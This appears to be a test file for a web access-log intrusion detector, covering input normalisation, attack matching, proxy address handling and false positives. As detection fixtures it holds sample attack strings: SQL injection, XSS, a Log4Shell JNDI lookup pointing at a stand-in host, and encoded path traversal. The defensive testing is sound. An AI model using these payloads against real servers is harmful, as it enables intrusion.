import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { decode, normalise } from '../../../src-main/engine/detect/intrusion/normalise.ts';
import { cleanAddress } from '../../../src-main/engine/detect/intrusion/address.ts';
import { explainLine } from '../../../src-main/engine/detect/intrusion/explain.ts';
import {
  createLineDetector,
  type LineMatch,
} from '../../../src-main/engine/detect/intrusion/line-detector.ts';
import { loadRules } from '../../../src-main/engine/detect/intrusion/rules.ts';
import { access, parsed } from './batches.ts';

const { rules } = loadRules(join(import.meta.dirname, '../../../resources'));
const detector = createLineDetector(rules, { trustedProxies: ['10.0.0.0/8'] });

function matchesOf(...lines: string[]): LineMatch[] {
  return detector.detect(parsed(lines)).matches;
}
const typesOf = (target: string): string[] => [
  ...new Set(matchesOf(access({ target })).map((match) => match.type)),
];

describe('normalising', () => {
  test.each([
    ['%3Cscript%3E', '<script>'],
    ['%253Cscript%253E', '<script>'],
    ['%u003Cb%u003E', '<b>'],
    ['..%c0%af..%e0%80%af', '../../'],
    ['&lt;img&#x20;src&#61;x&gt;', '<img src=x>'],
    ['\\x3cb\\u003e', '<b>'],
    ['\uff1cscript\uff1e', '<script>'],
    ['SeLeCt\t\n 1', 'select 1'],
    ['jav\u0000ascript', 'javascript'],
    ['100%', '100%'],
    ['%zz', '%zz'],
  ])('takes %j for %j', (text, expected) => {
    expect(normalise(text)).toBe(expected);
  });

  test('never throws, and changes nothing more in a text that is plain already', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        const once = normalise(text);
        if (!/[%&\\]/.test(once)) expect(normalise(once)).toBe(once);
      }),
    );
  });

  test('undoes URL encoding of any text, once or twice', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 60 }), (text) => {
        fc.pre(!/[%&\\\uff01-\uff5e]/.test(text));
        expect(decode(encodeURIComponent(text))).toBe(text);
        expect(decode(encodeURIComponent(encodeURIComponent(text)))).toBe(text);
      }),
    );
  });
});

describe('single lines', () => {
  test('mean the same whether seen for the first time or remembered', () => {
    const lines = [
      access({ target: "/x?id=1'%20or%20'1'='1" }),
      access({ target: '/fine' }),
      access({ target: "/x?id=1'%20or%20'1'='1" }),
    ];
    const matches = matchesOf(...lines, ...lines);
    expect(matches.map((match) => match.line)).toEqual([0, 2, 3, 5]);
  });

  test('hide nothing in a value that is base64', () => {
    expect(typesOf(`/x?d=${Buffer.from('<script>alert(1)</script>').toString('base64')}`)).toContain('xss');
  });

  test('are found in agent and referer too', () => {
    expect(matchesOf(access({ agent: '${jndi:ldap://h.example/x}' }))[0]?.where).toBe('agent');
    expect(matchesOf(access({ referer: 'https://h.example/?q=<svg/onload=alert(1)>' }))[0]?.where).toBe(
      'referer',
    );
  });

  test('of a trusted proxy are counted for the client behind it, and a stranger cannot pretend', () => {
    const line =
      '10.0.0.2 - - [21/Nov/2026:10:00:00 +0000] "GET /x?q=<script>alert(1)</script> HTTP/1.1" 200 1 "-" "a" "203.0.113.66, 198.51.100.9, 10.0.0.3"';
    expect(matchesOf(line)[0]?.address).toBe('198.51.100.9');
    expect(matchesOf(line.replace('10.0.0.2 ', '198.51.100.77 '))[0]?.address).toBe('198.51.100.77');
  });

  test('never make the detector throw, whatever they hold', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 200 }), { maxLength: 5 }), (texts) => {
        detector.detect(parsed(texts.map((text) => access({ target: `/${text}`, agent: text }))));
        detector.detect(parsed(texts));
      }),
    );
  });
});

describe('what people really ask for', () => {
  test.each([
    '/search?q=union+pacific+and+select+stocks',
    '/search?q=O%27Reilly+books',
    "/search?q=rock+'n'+roll",
    '/search?q=drop+in+and+out',
    '/search?q=5+or+6',
    '/search?q=c%2B%2B+std::vector',
    '/search?q=what+is+1%3D1',
    '/search?q=a+%26+b',
    '/search?q=cat+videos;+dog+videos',
    '/search?q=%E6%97%A5%E6%9C%AC%E3%81%AE%E6%A0%AA%E4%BE%A1',
    '/p?utm_campaign=Feed:+name/main+(site.example)',
    '/files/?C=M;O=D',
    '/oauth/callback?state=eyJhIjoxfQ==&code=4/0AX4XfWh-abc_DEF',
    '/redirect?to=https%3A%2F%2Fshop.example%2Fcart%3Fid%3D7',
    '/api?filter[name]=x&sort=-created_at&fields=id,name',
    '/api?range=2026-01-01T00:00:00Z/2026-02-01T00:00:00Z',
    '/api/graphql?query=%7Borders%7Bid%20total%7D%7D',
    '/img?size=100x100&crop=(0,0,50,50)',
    '/wiki/Select_(SQL)',
    '/blog/how-to-sleep-better/',
    '/docs/from-zero-to-one.html',
    '/chart?symbol=^N225&range=1d',
    '/mail?to=mia@example.org&subject=Hello+there',
    '/cart?items=1,2,3&total=$5.00',
  ])('is no attack: %s', (target) => {
    expect(matchesOf(access({ target })).filter((match) => match.event === 'web_attack')).toEqual([]);
  });
});

test.each([
  ['::ffff:192.0.2.9', '192.0.2.9'],
  ['[2001:DB8::9]:443', '2001:db8::9'],
  ['192.0.2.9:50122', '192.0.2.9'],
  ['fe80::1%eth0', 'fe80::1'],
  ['999.1.1.1', undefined],
  ['example.org', undefined],
])('the address %j is %j', (text, expected) => {
  expect(cleanAddress(text)).toBe(expected);
});

test('events have one number for an address however it is written, and texts for others', () => {
  const written = [
    '192.0.2.9',
    '192.0.2.9:50122',
    '::ffff:192.0.2.9',
    '[2001:DB8::9]:443',
    '0.0.0.0',
    '010.0.0.1',
  ];
  const { events } = detector.detect(parsed(written.map((address) => access({ address }))));
  const number = (192 << 24) | (2 << 8) | 9;
  expect([...events.addresses].slice(0, events.count)).toEqual([number, number, number, 0, 0, 0]);
  const others = [...events.otherAddresses].slice(0, events.count).map((index) => events.strings[index]);
  expect(others).toEqual(['', '', '', '2001:db8::9', '0.0.0.0', '010.0.0.1']);
});

describe('an explanation', () => {
  test('shows parser, disguise, rule and decision, and asks for the buckets of the address', () => {
    const asked: string[] = [];
    const explanation = explainLine(
      parsed([access({ target: '/x?q=%253Csvg%2520onload=alert(1)%253E' })]),
      rules,
      (address) => {
        asked.push(address);
        return [{ rule: 'web.flood.rate', level: 3, capacity: 240, open: false }];
      },
    );
    expect(explanation.event).toBe('web_attack');
    expect(explanation.steps.map((step) => [step.step, step.outcome])).toEqual([
      ['parse', 'ok'],
      ['normalise', 'ok'],
      ['rules', 'hit'],
      ['bucket', 'ok'],
      ['decision', 'hit'],
    ]);
    expect(asked).toEqual(['192.0.2.7']);
    expect(explanation.rules.find((rule) => rule.id === 'web.xss')).toMatchObject({
      matched: true,
      where: 'target',
    });
    expect(explanation.rules.find((rule) => rule.id === 'web.sqli')).toMatchObject({ matched: false });
  });

  test('of an ordinary line says that it means nothing', () => {
    const explanation = explainLine(parsed([access({ target: '/about' })]), rules);
    expect(explanation.event).toBe('');
    expect(explanation.steps.at(-1)?.outcome).toBe('none');
  });
});
